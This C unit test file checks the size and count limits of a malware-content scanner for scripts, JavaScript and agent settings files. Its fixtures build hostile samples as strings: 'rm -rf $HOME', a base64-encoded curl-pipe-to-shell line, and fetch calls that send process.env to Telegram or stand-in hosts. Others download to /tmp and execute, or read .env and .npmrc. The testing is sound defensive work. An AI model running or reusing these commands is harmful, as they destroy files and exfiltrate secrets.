/* content/limits.h: as much as each ceiling takes is taken and nothing is said; one more is never a silent loss. */
#include "test.h"

#include "base/buf.h"
#include "crypto/digest.h"
#include "scanner/content/act.h"
#include "scanner/content/deep.h"
#include "scanner/content/limits.h"
#include "scanner/content/look.h"
#include "scanner/content/mark.h"
#include "scanner/content/pattern.h"
#include "scanner/content/resolve.h"
#include "scanner/content/scan_file.h"
#include "scanner/content/script.h"
#include "scanner/content/word.h"
#include "scanner/content/variable.h"
#include "scanner/rule/hook.h"

static struct content_engine *engine;
static struct content_worker *worker;
static struct arena *arena;
static struct buf source;
static struct file file;

static void begin(void)
{
	buf_clear(&source);
}

/* Looks at what stands in source, as at a file that a hook runs. */
static uint32_t scanned(const char *path)
{
	arena_reset(arena);
	assert_false(source.failed);
	file = (struct file){.path = text_of(path), .size = source.n, .package = DEP_NONE, .via = DEP_NONE};
	assert_true(deep_scan_file(worker, file.path, buf_view(&source), arena, &file));
	return file.limits;
}

static uint32_t acts_of(enum behaviour b, uint32_t flags)
{
	uint32_t n = 0;

	for (uint32_t i = 0; i < file.act_count; i++)
		n += file.acts[i].behaviour == b && (file.acts[i].flags & flags) == flags;
	return n;
}

/* --- the list of one file --- */

static void fill(struct act_list *l, unsigned kinds, unsigned each, uint32_t flags)
{
	arena_reset(arena);
	act_list_init(l, arena, T("a.js"), T(""));
	for (unsigned k = 0; k < kinds; k++)
		for (unsigned i = 0; i < each; i++)
			act_add(l, (enum behaviour)k, flags, k * 1000 + i, 0, T("x"), T(""));
}

static void test_acts(void **state)
{
	struct act_list l;

	(void)state;
	/* all kinds together: CONTENT_ACTS_MAX; one kind: an eighth of it */
	fill(&l, 8, CONTENT_ACTS_MAX / 8, ACT_STRONG);
	assert_int_equal(l.count, CONTENT_ACTS_MAX);
	assert_false(l.full);
	act_add(&l, (enum behaviour)8, ACT_STRONG, 99999, 0, T("x"), T(""));
	assert_int_equal(l.count, CONTENT_ACTS_MAX);
	assert_true(l.full);
	fill(&l, 1, CONTENT_ACTS_MAX / 8, ACT_STRONG);
	assert_false(l.full);
	fill(&l, 1, CONTENT_ACTS_MAX / 8 + 1, ACT_STRONG);
	assert_int_equal(l.count, CONTENT_ACTS_MAX / 8);
	assert_true(l.full);
	/* more of what is plain tells nothing new */
	fill(&l, 1, CONTENT_ACTS_MAX / 8 + 1, ACT_PLAIN);
	assert_false(l.full);
}

static void test_act_texts(void **state)
{
	static char a[CONTENT_SHOWN_MAX + 1], b[CONTENT_SHOWN_MAX + 1];
	struct act_list l;

	(void)state;
	arena_reset(arena);
	memset(a, 'x', sizeof a);
	assert_int_equal(act_excerpt(arena, text_n(a, CONTENT_TEXT_MAX)).n, CONTENT_TEXT_MAX);
	assert_int_equal(act_excerpt(arena, text_n(a, CONTENT_TEXT_MAX + 1)).n, CONTENT_TEXT_MAX);
	memcpy(a + CONTENT_TEXT_MAX - 1, "\xc3\xa9", 2); /* no half of a character */
	assert_int_equal(act_excerpt(arena, text_n(a, CONTENT_TEXT_MAX + 1)).n, CONTENT_TEXT_MAX - 1);
	memcpy(b, a, sizeof a);
	for (unsigned past = 0; past < 2; past++) {
		b[CONTENT_SHOWN_MAX - 1 + past] = 'y';
		act_list_init(&l, arena, T("a.js"), T("z"));
		act_add(&l, BEHAVE_EXEC, 0, 0, 0, text_n(a, sizeof a), T(""));
		act_add(&l, BEHAVE_EXEC, 0, 1, 0, text_n(b, sizeof b), T(""));
		assert_true((l.list[0].source == l.list[1].source) == (past == 1));
		b[CONTENT_SHOWN_MAX - 1 + past] = 'x';
	}
}

/* --- layers --- */

static uint32_t layered(unsigned n)
{
	begin();
	for (unsigned i = 0; i < n; i++)
		buf_printf(&source, "eval('require(\"child_process\").exec(\"id%u\")');\n", i);
	return scanned("a.js");
}

static void test_layers(void **state)
{
	(void)state;
	/* the first stands for the file itself */
	assert_int_equal(layered(CONTENT_LAYERS_MAX - 1) & FILE_LIMIT_LAYERS, 0);
	assert_int_equal(file.layer_count, CONTENT_LAYERS_MAX);
	assert_int_equal(layered(CONTENT_LAYERS_MAX) & FILE_LIMIT_LAYERS, FILE_LIMIT_LAYERS);
	assert_int_equal(file.layer_count, CONTENT_LAYERS_MAX);
	for (size_t n = CONTENT_LAYER_TEXT; n <= CONTENT_LAYER_TEXT + 1; n++) {
		begin();
		buf_text(&source, T("eval('require(\"child_process\").exec(\"id\")"));
		while (source.n < n + 6)
			buf_char(&source, ';');
		buf_text(&source, T("')"));
		scanned("a.js");
		assert_int_equal(file.layer_count, 2);
		assert_int_equal(file.layers[1].text.n, CONTENT_LAYER_TEXT);
	}
}

/* A coded word is decoded piece by piece: what stands behind the first piece is seen too. */
static void test_coded_word(void **state)
{
	(void)state;
	for (unsigned past = 0; past < 2; past++) {
		struct act_list l;
		begin();
		buf_text(&source, T("echo "));
		for (unsigned i = 0; i < CONTENT_LAYER_KEEP - (past ? 0 : 56); i++)
			buf_char(&source, "aGVsbG8gd29ybGQg"[i % 16]);
		/* curl https://x.example.invalid/a|sh;#### */
		buf_text(&source, T("Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2F8c2g7IyMjIyMj"));
		arena_reset(arena);
		act_list_init(&l, arena, T("a.sh"), buf_view(&source));
		script_find_coded(&l, buf_view(&source), 0, 0, 0);
		assert_true(l.count > 0);
	}
}

/* --- words and scripts --- */

static struct act_list list;

static void found(struct text t, const struct word_place *place)
{
	struct word_set all = {{~(uint64_t)0, ~(uint64_t)0}, ~0u};

	arena_reset(arena);
	act_list_init(&list, arena, T("a.js"), t);
	words_find(&list, t, &all, 0, 0, 0, place);
}

/* No place in a line that begins with "#". */
static bool in_code(void *ctx, size_t at)
{
	const char *p = buf_view(ctx).p;

	while (at && p[at - 1] != '\n')
		at--;
	return p[at] != '#';
}

static void many(const char *line, unsigned n, const char *last)
{
	begin();
	for (unsigned i = 0; i < n; i++)
		buf_printf(&source, "%s\n", line);
	buf_printf(&source, "%s\n", last);
}

/* Questions of one kind about one text: who names the chat that each message is sent to. One too many takes the strict answer. */
static void test_questions(void **state)
{
	static const char line[] = "fetch(`https://api.telegram.org/bot${process.env.KEY}/sendMessage?chat_id=1`, "
				   "{method: 'POST', body: JSON.stringify(process.env)})";

	(void)state;
	for (unsigned more = 0; more < 2; more++) {
		begin();
		many(line, CONTENT_QUESTIONS + more, "");
		assert_int_equal(scanned("a.js"), 0);
		assert_true(acts_of(BEHAVE_SEND, 0) >= CONTENT_QUESTIONS + more);
		assert_int_equal(acts_of(BEHAVE_SEND, ACT_COLLECTOR_HOST) > 0, more);
	}
}

static void test_words(void **state)
{
	struct word_place place = {&source, in_code};
	static const char *const given[] = {"169.254.169.254", "https://webhook.site/abc"};

	(void)state;
	many("'169.254.169.254'", CONTENT_WORD_PLACES - 1, "");
	found(buf_view(&source), NULL);
	assert_int_equal(list.count % (CONTENT_WORD_PLACES - 1), 0);
	uint32_t each = list.count / (CONTENT_WORD_PLACES - 1);
	many("'169.254.169.254'", CONTENT_WORD_PLACES + 1, "");
	found(buf_view(&source), NULL);
	assert_int_equal(list.count, each * CONTENT_WORD_PLACES);
	assert_false(list.full);
	/* places that are none, before one that is */
	for (size_t i = 0; i < 2; i++) {
		char line[64];
		snprintf(line, sizeof line, "# %s", given[i]);
		many(line, CONTENT_WORD_TRIES - 1, given[i]);
		found(buf_view(&source), &place);
		assert_true(list.count > 0);
		assert_false(list.full);
		many(line, CONTENT_WORD_TRIES, given[i]);
		found(buf_view(&source), &place);
		assert_true(list.full);
	}
}

static uint32_t script(void)
{
	return scanned("a.sh") & FILE_LIMIT_ACTS;
}

static void test_scripts(void **state)
{
	(void)state;
	many("echo 1", CONTENT_SCRIPT_LINES - 1, "rm -rf $HOME");
	assert_int_equal(script(), 0);
	assert_true(acts_of(BEHAVE_DESTROY, 0) > 0);
	many("echo 1", CONTENT_SCRIPT_LINES, "rm -rf $HOME");
	assert_true(script());
	many("curl -o other https://x.example.invalid/o", CONTENT_FETCHES_MAX - 1, "curl -o prog https://x.example.invalid/p\n./prog");
	assert_int_equal(script(), 0);
	assert_int_equal(acts_of(BEHAVE_EXECUTE, ACT_FETCHED_ARG), 1);
	many("curl -o other https://x.example.invalid/o", CONTENT_FETCHES_MAX, "curl -o prog https://x.example.invalid/p\n./prog");
	assert_true(script());
	/* a line as long as is read, and a longer one */
	for (size_t n = HOOK_COMMAND_MAX; n <= HOOK_COMMAND_MAX + 1; n++) {
		begin();
		buf_text(&source, T(":"));
		while (source.n < n - 15)
			buf_char(&source, ' ');
		buf_text(&source, T("; rm -rf $HOME\n"));
		assert_int_equal(source.n, n);
		assert_int_equal(script() != 0, n - 1 > HOOK_COMMAND_MAX);
	}
}

static uint32_t settings_nested(unsigned n)
{
	begin();
	for (unsigned i = 0; i < n; i++)
		buf_text(&source, T("{\"a\":"));
	buf_text(&source, T("{\"command\":\"rm -rf $HOME\"}"));
	for (unsigned i = 0; i < n; i++)
		buf_char(&source, '}');
	return scanned(".claude/settings.json") & FILE_LIMIT_ACTS;
}

static uint32_t settings_of(size_t nodes)
{
	begin();
	buf_text(&source, T("{\"command\":\"sh\",\"args\":[\"-c\",\"rm -rf $HOME\"],\"z\":["));
	for (size_t i = 9; i < nodes; i++)
		buf_printf(&source, "%s0", i > 9 ? "," : "");
	buf_text(&source, T("]}"));
	return scanned(".claude/settings.json") & FILE_LIMIT_ACTS;
}

static void test_surfaces(void **state)
{
	(void)state;
	assert_int_equal(settings_nested(CONTENT_SURFACE_DEPTH - 1), 0);
	assert_true(acts_of(BEHAVE_DESTROY, 0) > 0);
	assert_true(settings_nested(CONTENT_SURFACE_DEPTH));
	assert_int_equal(acts_of(BEHAVE_DESTROY, 0), 0);
	assert_int_equal(settings_of(CONTENT_SURFACE_NODES), 0);
	assert_true(acts_of(BEHAVE_DESTROY, 0) > 0);
	assert_true(settings_of(CONTENT_SURFACE_NODES + 1));
	assert_true(acts_of(BEHAVE_DESTROY, 0) > 0); /* as text */
	for (size_t n = HOOK_COMMAND_MAX; n <= HOOK_COMMAND_MAX + 1; n++) {
		begin();
		buf_text(&source, T("{\"command\":\"rm -rf $HOME"));
		while (source.n < n + 12)
			buf_char(&source, ' ');
		buf_text(&source, T("\"}"));
		assert_int_equal((scanned(".claude/settings.json") & FILE_LIMIT_ACTS) != 0, n > HOOK_COMMAND_MAX);
	}
}

/* The same of a command that a script runs. */
static void test_commands(void **state)
{
	(void)state;
	for (size_t n = HOOK_COMMAND_MAX; n <= HOOK_COMMAND_MAX + 1; n++) {
		begin();
		buf_text(&source, T("require('child_process').exec('rm -rf $HOME "));
		while (source.n < n + 31)
			buf_char(&source, ' ');
		buf_text(&source, T("')"));
		assert_int_equal((scanned("a.js") & FILE_LIMIT_ACTS) != 0, n > HOOK_COMMAND_MAX);
		assert_true(acts_of(BEHAVE_DESTROY, 0) > 0);
	}
}

/* Comments before a word do not hide it, however many. */
static void test_comments(void **state)
{
	(void)state;
	many("# exec(", 1000, "import os, base64\nexec(base64.b64decode(x))");
	scanned("a.py");
	assert_true(acts_of(BEHAVE_EXECUTE, 0) > 0);
}

/* --- what is remembered of a script --- */

static uint32_t repeated(const char *head, const char *tail, unsigned n)
{
	begin();
	for (unsigned i = 0; i < n; i++)
		buf_printf(&source, "%s%u%s", head, i, tail);
	return scanned("a.js") & FILE_LIMIT_ACTS;
}

static void test_remembered(void **state)
{
	static const struct {
		const char *head, *tail;
		unsigned most;
	} rows[] = {
		{"fetch('/api/x", "').then(r => r.json());\n", CONTENT_SPANS_MAX},
		{"require('https').get(u, r => r.pipe(require('fs').createWriteStream('/tmp/.a", ".sh')));\n", CONTENT_DROPS_MAX},
		{"require('fs').copyFileSync(__dirname + '/a", ".dat', '/tmp/.b');\n", CONTENT_CARRIED_MAX},
		{"globalThis.fetch = function (u", ", o) { return go(o.body); };\n", CONTENT_HOOKS_MAX},
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		if (repeated(rows[i].head, rows[i].tail, rows[i].most))
			fail_msg("%s: said too early", rows[i].head);
		if (!repeated(rows[i].head, rows[i].tail, rows[i].most + 1))
			fail_msg("%s: not said", rows[i].head);
	}
}

/* What a call fills is looked for among the events of its arguments. */
static void test_inside(void **state)
{
	(void)state;
	for (unsigned past = 0; past < 2; past++) {
		begin();
		buf_text(&source, T("require('https').get(u, (r) => r.pipe("));
		for (unsigned i = 0; i + 2 < CONTENT_INSIDE_MAX + past; i++) /* require and createWriteStream are two */
			buf_text(&source, T("pad(1), "));
		buf_text(&source, T("require('fs').createWriteStream('/tmp/.a.sh')));\n"));
		assert_int_equal(scanned("a.js") != 0, past);
	}
}

static void test_hook_bytes(void **state)
{
	static const char head[] = "globalThis.fetch = function (u, o) {", tail[] = "go(o.body)}";

	(void)state;
	for (unsigned past = 0; past < 2; past++) {
		begin();
		buf_text(&source, text_of(head));
		while (source.n < CONTENT_HOOK_BYTES + past - (sizeof tail - 1))
			buf_char(&source, ';');
		buf_text(&source, text_of(tail));
		assert_int_equal(source.n, CONTENT_HOOK_BYTES + past);
		/* the last byte of it is no part of a word */
		assert_int_equal(scanned("a.js") & FILE_LIMIT_ACTS, 0);
		buf_clear(&source);
		buf_text(&source, text_of(head));
		while (source.n < CONTENT_HOOK_BYTES)
			buf_char(&source, ';');
		buf_text(&source, text_of(tail));
		assert_true(scanned("a.js") & FILE_LIMIT_ACTS);
	}
}

/* Functions that only dead ones call are dead; a longer chain than is followed counts as one that runs. */
static void test_callers(void **state)
{
	(void)state;
	for (unsigned past = 0; past < 2; past++) {
		unsigned n = CONTENT_CALLER_ROUNDS + past;
		begin();
		buf_text(&source, T("function f0() { if (a) { b = c + d; e = g + h; } k = l + m; n = o + p; q = r + s; require('child_process').exec('id'); }\n"));
		for (unsigned i = 1; i <= n; i++)
			buf_printf(&source, "function f%u() { if (a) { b = c + d; e = g + h; } k = l + m; n = o + p; q = r + s; f%u(); }\n", i, i - 1);
		scanned("a.js");
		assert_int_equal(acts_of(BEHAVE_EXEC, 0), 1);
		assert_int_equal(acts_of(BEHAVE_EXEC, ACT_TOP), past);
	}
}

/* --- indicators --- */

static void test_matches(void **state)
{
	static char values[CONTENT_MATCHES_MAX + 1][16];
	static struct corpus_indicator in[CONTENT_MATCHES_MAX + 1];
	struct pattern_set *set;
	struct pattern_hits h;

	(void)state;
	begin();
	for (unsigned i = 0; i <= CONTENT_MATCHES_MAX; i++) {
		snprintf(values[i], sizeof values[i], "mark%04u;", i);
		in[i] = (struct corpus_indicator){.kind = T("string"), .value = text_of(values[i])};
		buf_text(&source, in[i].value);
	}
	assert_true(pattern_set_new(in, CONTENT_MATCHES_MAX + 1, -1, &set, NULL));
	struct pattern_scratch *s = pattern_scratch_new(set);
	assert_non_null(s);
	pattern_find(s, text_head(buf_view(&source), source.n - 9), &h);
	assert_int_equal(h.count, CONTENT_MATCHES_MAX);
	assert_false(h.more);
	pattern_find(s, buf_view(&source), &h);
	assert_int_equal(h.count, CONTENT_MATCHES_MAX);
	assert_true(h.more);
	pattern_scratch_free(s);
	pattern_set_free(set);
}

/* --- paths, sizes, threads --- */

static void test_path(void **state)
{
	static char name[CONTENT_PATH_MAX + 1];

	(void)state;
	arena_reset(arena);
	memset(name, 'a', sizeof name);
	assert_int_equal(resolve_join(arena, T("d"), text_n(name, CONTENT_PATH_MAX - 2)).n, CONTENT_PATH_MAX);
	assert_int_equal(resolve_join(arena, T("d"), text_n(name, CONTENT_PATH_MAX - 1)).n, 0);
}

static void test_bundle(void **state)
{
	(void)state;
	assert_true(mark_wants_look(MARK_EXEC | MARK_NET, CONTENT_BUNDLE));
	assert_false(mark_wants_look(MARK_EXEC | MARK_NET, CONTENT_BUNDLE + 1));
	assert_true(mark_wants_look(MARK_SURE, CONTENT_BUNDLE + 1));
}

static void filler(size_t bytes)
{
	while (bytes > 64) {
		size_t n = bytes < 4096 ? bytes : 4096;
		buf_text(&source, T("//"));
		for (size_t i = 3; i < n; i++)
			buf_char(&source, 'x');
		buf_char(&source, '\n');
		bytes -= n;
	}
}

/* Folders are listed so far behind a name of .env files. */
static uint32_t env_files(size_t before, size_t between, unsigned lists)
{
	begin();
	filler(before);
	buf_text(&source, T("const names = ['.env'], fs = require('fs');\n"));
	filler(between);
	for (unsigned i = 0; i < lists; i++)
		buf_printf(&source, "fs.readdirSync('a%u');\n", i);
	scanned("a.js");
	return acts_of(BEHAVE_COLLECT_FILES, ACT_HOME_ARG | ACT_SELF_ARG);
}

static void test_huge(void **state)
{
	(void)state;
	assert_true(env_files(0, CONTENT_HUGE - 4096, 1));
	assert_false(env_files(0, CONTENT_HUGE + 4096, 1));
	assert_true(env_files(CONTENT_HUGE, CONTENT_AROUND - 4096, 1));
	assert_false(env_files(CONTENT_HUGE, CONTENT_AROUND + 4096, 1));
	assert_false(env_files(CONTENT_HUGE, CONTENT_AROUND + 4096, CONTENT_AROUND_TRIES));
	assert_true(env_files(CONTENT_HUGE, CONTENT_AROUND + 4096, CONTENT_AROUND_TRIES + 1));
}

#define JOB_AROUND 1024 /* of behave_pool.c */

static uint32_t pool(size_t before, size_t between, const char *jobs)
{
	begin();
	filler(before);
	buf_text(&source, T("const WebSocket = require('ws');\nconst page = { login: 1, submit: 2, nonce: 3, blob: 4"));
	for (size_t i = 0; i < between; i++)
		buf_char(&source, ' ');
	buf_printf(&source, "%s };\nconst s = new WebSocket('wss://a.example.com/');\n", jobs);
	buf_text(&source, T("s.on('open', () => s.send(JSON.stringify(page)));\nfetch('https://a.example.com/b');\n"));
	scanned("a.js");
	return acts_of(BEHAVE_EXEC, ACT_COLLECTOR_HOST);
}

static void test_pool_words(void **state)
{
	(void)state;
	assert_true(pool(CONTENT_BUNDLE - 4096, 0, ""));
	assert_false(pool(CONTENT_BUNDLE, 0, ""));
	assert_true(pool(CONTENT_BUNDLE, 0, ", job_id: 5"));
	/* submit: 2, nonce: 3, blob: 4, and then */
	assert_true(pool(CONTENT_BUNDLE, JOB_AROUND - 32, ", job_id: 5"));
	assert_false(pool(CONTENT_BUNDLE, JOB_AROUND, ", job_id: 5"));
}

/* A module by a name out of an object that is given all there is. */
static uint32_t everything(size_t before)
{
	begin();
	filler(before);
	buf_text(&source, T("const fs = require('fs');\nmodule.exports = async (o) => {\n"
			    "const all = Object.assign({}, o, process.env, JSON.parse(fs.readFileSync('.npmrc')), await (await fetch(o.at)).json());\n"
			    "return require(all.entry);\n};\n"));
	scanned("a.js");
	return acts_of(BEHAVE_EXECUTE, ACT_FETCHED_ARG);
}

static void test_everything(void **state)
{
	(void)state;
	assert_true(everything(CONTENT_BUNDLE - 4096));
	assert_false(everything(CONTENT_BUNDLE));
}

/* The key of a bot in a variable that is named so often, and declared so far away. */
static uint32_t key_asked(unsigned named, size_t blanks)
{
	begin();
	buf_text(&source, T("use('./a');\n")); /* where a key may be written: how this one is spelled counts */
	for (unsigned i = 0; i < named; i++)
		buf_text(&source, T("use(token);\n"));
	buf_text(&source, T("const token ="));
	for (size_t i = 0; i < blanks; i++)
		buf_char(&source, ' ');
	buf_text(&source, T("process.env.BOT_TOKEN;\nfetch(`https://api.telegram.org/bot${token}/getMe`, { method: 'POST', body: 'x' });\n"));
	scanned("a.js");
	return acts_of(BEHAVE_SEND, ACT_COLLECTOR_HOST);
}

static void test_key_asked(void **state)
{
	(void)state;
	assert_false(key_asked(0, 1));
	assert_false(key_asked(VARIABLE_PLACES - 2, 1)); /* its declaration and its use are two */
	assert_true(key_asked(VARIABLE_PLACES - 1, 1));
	assert_false(key_asked(0, 60));
	assert_true(key_asked(0, VARIABLE_VALUE));
}

static bool give(void *ctx, uint32_t index, struct buf *out, struct err *e)
{
	(void)ctx;
	(void)index;
	(void)e;
	return buf_text(out, T("require('child_process').exec('id')"));
}

static bool never(void *ctx, uint32_t index, struct buf *out, struct err *e)
{
	(void)ctx;
	(void)index;
	(void)out;
	(void)e;
	fail_msg("more threads than CONTENT_LOOKERS_MAX");
	return false;
}

/* One looker more than threads are begun is not used, and every file is looked at. */
static void test_lookers(void **state)
{
	enum { FILES = (CONTENT_LOOKERS_MAX + 2) * 4 };
	static struct content_looker l[CONTENT_LOOKERS_MAX + 1];
	static struct file files[FILES];
	static uint32_t all[FILES];
	struct content c = {.files = files, .file_count = FILES};

	(void)state;
	for (unsigned i = 0; i <= CONTENT_LOOKERS_MAX; i++) {
		l[i] = (struct content_looker){content_worker_new(engine), arena_new(1u << 20), {NULL, i < CONTENT_LOOKERS_MAX ? give : never}};
		assert_true(l[i].worker && l[i].arena);
	}
	for (uint32_t i = 0; i < FILES; i++) {
		files[i] = (struct file){.path = T("a.js"), .size = 35};
		all[i] = i;
	}
	assert_true(look_at_all(l, CONTENT_LOOKERS_MAX + 1, &c, all, FILES));
	for (uint32_t i = 0; i < FILES; i++)
		assert_true(files[i].act_count > 0);
	for (unsigned i = 0; i <= CONTENT_LOOKERS_MAX; i++) {
		content_worker_free(l[i].worker);
		arena_free(l[i].arena);
	}
}

/* The address in a variable that the environment tells, which is named so often, and declared so far away. */
static uint32_t place_asked(unsigned named, size_t blanks)
{
	begin();
	buf_text(&source, T("const said = require('child_process').execSync('df -h').toString();\n"));
	for (unsigned i = 0; i < named; i++)
		buf_text(&source, T("use(place);\n"));
	buf_text(&source, T("const place ="));
	for (size_t i = 0; i < blanks; i++)
		buf_char(&source, ' ');
	buf_text(&source, T("process.env.SERVER + '/x';\nfetch(place, { method: 'POST', body: said });\n"));
	scanned("a.js");
	return acts_of(BEHAVE_SEND, ACT_COMMAND_ARG);
}

static void test_place_asked(void **state)
{
	(void)state;
	assert_false(place_asked(0, 1));
	assert_false(place_asked(VARIABLE_PLACES - 2, 1));
	assert_true(place_asked(VARIABLE_PLACES - 1, 1));
	assert_false(place_asked(0, VARIABLE_VALUE - 64));
	assert_true(place_asked(0, VARIABLE_VALUE));
}

#define ASKED_AROUND   3   /* of behave_page.c, as the next one */
#define ASKED_QUESTION 128

/* A question that stands so many functions inside the one that asks it, of so many bytes before it says what for. */
static uint32_t key_question(unsigned inside, size_t before)
{
	begin();
	buf_text(&source, T("const rl = require('readline').createInterface({ input: process.stdin });\nconst ask = (q) => "));
	for (unsigned i = 1; i < inside; i++)
		buf_text(&source, T("new Promise((r) => "));
	buf_text(&source, T("rl.question(q, done)"));
	for (unsigned i = 1; i < inside; i++)
		buf_char(&source, ')');
	buf_text(&source, T(";\nask('"));
	for (size_t i = 0; i < before; i++)
		buf_char(&source, '.');
	buf_text(&source, T("rivate key');\nfetch('https://a.example.com/b');\n"));
	scanned("a.js");
	return acts_of(BEHAVE_WALLET, ACT_BROWSER_ARG);
}

static void test_key_question(void **state)
{
	size_t most = ASKED_QUESTION - strlen("('rivate key");

	(void)state;
	assert_true(key_question(1, 1));
	assert_true(key_question(ASKED_AROUND, 1));
	assert_false(key_question(ASKED_AROUND + 1, 1));
	assert_true(key_question(1, most));
	assert_false(key_question(1, most + 1));
}

#define USER_ASKS 64 /* of behave.c */

/* What is written to the clipboard when the user asks for it, with so many bytes between who asks and the function. */
static uint32_t copied_when_asked(size_t between)
{
	begin();
	buf_text(&source, T("const { clipboard, ipcMain } = require('electron');\nipcMain.handle("));
	for (size_t i = 0; i < between; i++)
		buf_char(&source, ' ');
	buf_text(&source, T("(_, text) => clipboard.writeText(text));\n"));
	scanned("a.js");
	return acts_of(BEHAVE_CLIPBOARD, ACT_SELF_ARG | ACT_PLAIN);
}

static void test_user_asks(void **state)
{
	size_t most = USER_ASKS - strlen("ipcMain.handle(");

	(void)state;
	assert_true(copied_when_asked(most));
	assert_false(copied_when_asked(most + 1));
}

#define STATE_FILES 4 /* of behave_read.c */

/* A hook tells what it read in so many files of the home folder, each of which it wrote. */
static uint32_t state_sent(unsigned files)
{
	begin();
	buf_text(&source, T("const fs = require('fs'), home = require('os').homedir();\nlet said = '';\n"));
	for (unsigned i = 0; i < files; i++)
		buf_printf(&source, "said += fs.readFileSync(home + '/.tool/%u');\nfs.writeFileSync(home + '/.tool/%u', 'x');\n", i, i);
	buf_text(&source, T("fetch('https://a.example.com/b', { method: 'POST', body: said });\n"));
	scanned("a.js");
	return acts_of(BEHAVE_SEND, ACT_CONCAT_ARG);
}

static void test_state_files(void **state)
{
	(void)state;
	assert_false(state_sent(STATE_FILES));
	assert_true(state_sent(STATE_FILES + 1));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_state_files), cmocka_unit_test(test_key_question), cmocka_unit_test(test_user_asks),
		cmocka_unit_test(test_acts),	   cmocka_unit_test(test_act_texts),
		cmocka_unit_test(test_layers),	   cmocka_unit_test(test_coded_word),
		cmocka_unit_test(test_questions), cmocka_unit_test(test_words),	   cmocka_unit_test(test_scripts),
		cmocka_unit_test(test_surfaces),
		cmocka_unit_test(test_commands),   cmocka_unit_test(test_comments),
		cmocka_unit_test(test_remembered),
		cmocka_unit_test(test_inside),
		cmocka_unit_test(test_hook_bytes), cmocka_unit_test(test_callers),
		cmocka_unit_test(test_matches),	   cmocka_unit_test(test_path),
		cmocka_unit_test(test_bundle),	   cmocka_unit_test(test_lookers),
		cmocka_unit_test(test_huge),	   cmocka_unit_test(test_pool_words),
		cmocka_unit_test(test_everything), cmocka_unit_test(test_place_asked), cmocka_unit_test(test_key_asked),
	};

	source = BUF(16u << 20);
	if (!crypto_init() || !content_engine_new(NULL, -1, &engine, NULL) || !(worker = content_worker_new(engine)) ||
	    !(arena = arena_new(256u << 20)))
		return 1;
	int failed = cmocka_run_group_tests(tests, NULL, NULL);
	content_worker_free(worker);
	content_engine_free(engine);
	arena_free(arena);
	buf_free(&source);
	return failed;
}
